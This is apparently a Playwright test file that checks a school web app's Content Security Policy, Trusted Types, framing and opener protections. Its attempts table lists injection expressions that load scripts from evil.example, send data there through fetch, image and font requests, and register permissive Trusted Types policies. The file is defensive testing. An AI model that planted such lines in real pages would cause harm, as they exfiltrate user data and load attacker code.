import type { Page } from '@playwright/test';
import { people } from '@superhero/school-cloud/people';
import { expect, heading, logIn, test } from './fixtures.ts';
import { openOtherSite } from './harness/other-site.ts';

/** What an injected script might try, and the directive that must block it. */
const attempts = {
  "document.body.innerHTML = '<b>x</b>'": 'require-trusted-types-for',
  "document.write('<b>x</b>')": 'require-trusted-types-for',
  "document.createElement('script').src = 'https://evil.example/x.js'": 'require-trusted-types-for',
  "document.createElement('script').textContent = 'alert(1)'": 'require-trusted-types-for',
  "document.body.setAttribute('onclick', 'alert(1)')": 'require-trusted-types-for',
  "new Worker('/worker.js')": 'require-trusted-types-for',
  "eval('1')": 'require-trusted-types-for',
  "new Function('return 1')": 'require-trusted-types-for',
  "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('default', { createHTML: (html) => html })": 'trusted-types',
  "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": 'trusted-types',
  "import('https://evil.example/x.js')": 'script-src-elem',
  "fetch('https://evil.example/take?it')": 'connect-src',
  "Object.assign(new Image(), { src: 'https://evil.example/take.png' }).decode()": 'img-src',
  "new FontFace('evil', 'url(https://evil.example/take.woff2)').load()": 'font-src',
};

/**
 * Runs this expression as a script on the page would: `done`, or the name of the error. It runs in a timer, because
 * the browser allows the test itself what it forbids the page.
 */
function tryInPage(page: Page, expression: string): Promise<unknown> {
  return page.evaluate(`new Promise((resolve) => {
    setTimeout(() => {
      Promise.resolve().then(() => ${expression}).then(() => resolve('done'), ({ name }) => resolve(name));
    });
  })`);
}

test('the policy stops scripts that run text, write HTML or send data', async ({ page, problems }) => {
  problems.expect(/Content Security Policy/, /Trusted/);
  await logIn(page, people.superhero, '/login');
  for (const [attempt, rule] of Object.entries(attempts)) {
    problems.expect(new RegExp(`policy violation: ${rule} `));
    expect(await tryInPage(page, attempt), attempt).toMatch(/Error$/);
  }
  await expect(page.getByRole('banner')).toContainText('Greta Sonnenfeld');
});

test('the policy stops native form submissions, even to the site itself', async ({ page, problems }) => {
  problems.expect(/form-action 'none'/, /policy violation: form-action/);
  await page.goto('/login');
  await expect(heading(page)).toHaveText('Anmelden');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  // Bypasses the handler of the form.
  await page.evaluate(() => document.querySelector('form')?.submit());
  await expect.poll(() => problems.result().missing).toEqual([]);
  expect(await page.evaluate(() => window.location.search)).toBe('');
  expect(asked).toEqual([]);
});

test('another site that frames the page gets an empty frame', async ({ page, site, problems, leaks }) => {
  problems.expect(/frame-ancestors 'none'/);
  const thief = await openOtherSite(page.context());
  leaks.allow(thief.url);
  const parts: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(site.url)) parts.push(request.url().slice(site.url.length));
  });
  await page.goto(thief.url);
  await page.evaluate((address) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    document.body.append(frame);
  }, `${site.url}/login`);
  await expect.poll(() => problems.result().missing).toEqual([]);
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  expect(parts).toEqual(['/login']);
  await thief.close();
});

test('another site that opens the page gets no reference to it', async ({ page, site, leaks }) => {
  const thief = await openOtherSite(page.context());
  leaks.allow(thief.url);
  await page.goto(thief.url);
  const opened = page.waitForEvent('popup');
  await page.evaluate((address) => {
    window.open(address, 'mine');
  }, `${site.url}/login`);
  const popup = await opened;
  await expect(popup.getByRole('heading', { level: 1 })).toHaveText('Anmelden');
  expect(await popup.evaluate(() => window.opener === null && window.name === '')).toBe(true);
  await thief.close();
});

test('the page is cross-origin isolated', async ({ page }) => {
  await page.goto('/login');
  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('renders no form whose password could end up in a URL', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.method()));
    await page.goto('/login');
    await expect(page.locator('noscript').locator('[lang="en"]')).toHaveText('Please switch JavaScript on.');
    await expect(page.locator('form, input, button')).toHaveCount(0);
    await page.keyboard.press('Enter');
    expect(new Set(asked)).toEqual(new Set(['GET']));
  });
});
